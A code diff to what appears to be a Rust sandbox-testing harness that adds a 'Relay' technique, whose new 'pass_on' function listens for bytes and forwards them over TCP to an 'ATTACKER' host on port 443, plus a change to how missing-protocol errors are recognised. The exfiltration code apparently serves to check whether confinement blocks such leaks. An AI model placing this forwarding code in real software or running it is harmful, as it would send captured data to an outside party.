@@ -34,6 +34,7 @@ use crate::lab::{
 use crate::roles::{self, Rights, Role};
 use crate::sys::{self, Entry};
 use prxy::verify::frame::{Packet, TCP, UDP};
+use prxy::verify::relay::Relay;
 use prxy::verify::technique::Aid;
 
 /// What became of an attempt.
@@ -187,6 +188,14 @@ impl Range {
                     Err(_) => Vec::new(), // the control notices
                 }
             }
+            Aid::Heard(medium) => {
+                let token = token.to_owned();
+                let open = move || Relay::open(medium, &std::env::temp_dir(), &token);
+                match self.lab.app.block_on(async move { open() }) {
+                    Ok(relay) => vec![self.lab.app.spawn(pass_on(relay))],
+                    Err(_) => Vec::new(), // the control notices
+                }
+            }
             Aid::None | Aid::Meet | Aid::Given(_) => Vec::new(),
         }
     }
@@ -202,7 +211,9 @@ pub fn control(technique: &Technique) -> Result<Verdict> {
     let range = Range::new()?;
     let verdict = range.attempt(technique, &Confinement::none(range.lab.app.fd()))?;
     let missing = |why: &str| {
-        ["EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "EAFNOSUPPORT"].iter().any(|e| why.contains(e))
+        technique::MISSING
+            .iter()
+            .any(|errno| why.ends_with(&format!("{:?}", Errno::from_raw(*errno))))
     };
     Ok(match verdict {
         Verdict::Blocked(why) if technique.presence == Presence::Optional && missing(&why) => {
@@ -323,6 +334,19 @@ async fn relay_datagram(listener: UnixDatagram, path: PathBuf) {
         && let Ok(mut to) = TcpStream::connect((ATTACKER, 443)).await
     {
         drop(to.write_all(&buffer[..len]).await);
+    }
+}
+
+/// Listens in a thread of its own, in the namespace.
+async fn pass_on(mut relay: Relay) {
+    let heard = tokio::task::spawn_blocking(move || {
+        let bytes = relay.hear();
+        (bytes, relay)
+    });
+    if let Ok((Ok(bytes), _relay)) = heard.await
+        && let Ok(mut to) = TcpStream::connect((ATTACKER, 443)).await
+    {
+        drop(to.write_all(&bytes).await);
     }
 }
 
